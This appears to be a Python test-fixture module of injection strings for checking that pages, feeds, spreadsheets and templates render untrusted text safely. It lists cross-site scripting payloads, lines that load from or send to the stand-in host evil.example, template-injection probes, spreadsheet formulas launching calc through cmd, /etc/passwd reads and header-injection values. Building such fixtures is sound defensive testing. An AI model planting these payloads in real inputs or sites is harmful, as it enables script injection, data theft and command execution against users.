"""Texts that try to become something else once a page, a feed, a sheet or a template shows them."""

from __future__ import annotations

from typing import Final

MARK: Final = "zqxss"
"""Stands in every payload, so that a node or an address made from one is known."""
PAYLOADS: Final = (
    f"<script>alert('{MARK}')</script>",
    f"</script><script src=//evil.example/{MARK}></script>",
    f"<img src=x onerror=alert('{MARK}')>",
    f"\"><img src=x onerror=alert('{MARK}')>",
    f"'><svg/onload=alert('{MARK}')>",
    f"\" onmouseover=alert('{MARK}') x=\"",
    f"' autofocus onfocus=alert('{MARK}') x='",
    f"</title><script>alert('{MARK}')</script>",
    f"</textarea><script>alert('{MARK}')</script>",
    f"--><script>alert('{MARK}')</script><!--",
    f"]]><script>alert('{MARK}')</script>",
    f"<svg><script>alert('{MARK}')</script></svg>",
    f"<svg><animate onbegin=alert('{MARK}') attributeName=x dur=1s>",
    f"<math><mi xlink:href=\"javascript:alert('{MARK}')\">x</mi></math>",
    f"<iframe srcdoc=\"<script>alert('{MARK}')</script>\"></iframe>",
    f"<iframe src=javascript:alert('{MARK}')></iframe>",
    f"<object data=javascript:alert('{MARK}')></object>",
    f"<embed src=//evil.example/{MARK}>",
    f"<base href=//evil.example/{MARK}/>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
    f"<link rel=stylesheet href=//evil.example/{MARK}>",
    f"<style>@import '//evil.example/{MARK}'</style>",
    f"<form action=//evil.example/{MARK}><button>{MARK}",
    f"<a href=javascript:alert('{MARK}')>{MARK}</a>",
    f"<a href=data:text/html,<script>alert('{MARK}')</script>>{MARK}</a>",
    f"<template><script>alert('{MARK}')</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror=alert('{MARK}')>\">",
    f"<details open ontoggle=alert('{MARK}')>",
    f"&lt;script&gt;alert('{MARK}')&lt;/script&gt;&#60;img src=x onerror=alert('{MARK}')&#62;",
    f"javascript:alert('{MARK}')",
    f"https://evil.example/{MARK}\"onmouseover=\"alert('{MARK}')",
    f"{{{{ request.META }}}}{{% debug %}}{MARK}",
    f"${{7*7}}#{{7*7}}<%= 7*7 %>{MARK}",
    f'=HYPERLINK("//evil.example/{MARK}";"{MARK}")',
    f"@SUM(1+1)*cmd|'/C calc'!A0 {MARK}",
    f"+cmd|'/C calc'!A0 {MARK}",
    f"-2+3+cmd|'/C calc'!A0 {MARK}",
    f"\t=1+1 {MARK}",
    f'#let x = read("/etc/passwd") {MARK} #eval("1")',
    f"x\nSet-Cookie: {MARK}=1\nEND:VEVENT",
    f"\\;\\,END:VCALENDAR {MARK}",
    f"mailto:{MARK}@evil.example?bcc=todos@evil.example",
)
ADDRESSES: Final = (
    f"javascript:alert('{MARK}')",
    f"JaVaScRiPt:alert('{MARK}')",
    f"java\tscript:alert('{MARK}')",
    f"data:text/html,<script>alert('{MARK}')</script>",
    f"vbscript:msgbox('{MARK}')",
    f"//evil.example/{MARK}",
    "file:///etc/passwd",
    "ftp://evil.example/x",
    f"https://evil.example/ <script>alert('{MARK}')</script>",
    f"http://localhost:8000@evil.example/\n{MARK}",
)
"""What no field of an address may hold; each must be refused by name."""
ODD: Final = f"https://raro.example/\"onmouseover=\"alert('{MARK}')'<b>&lt;{{{{7}}}}"
"""An address that is one; shown, it must stay whole and only an address."""
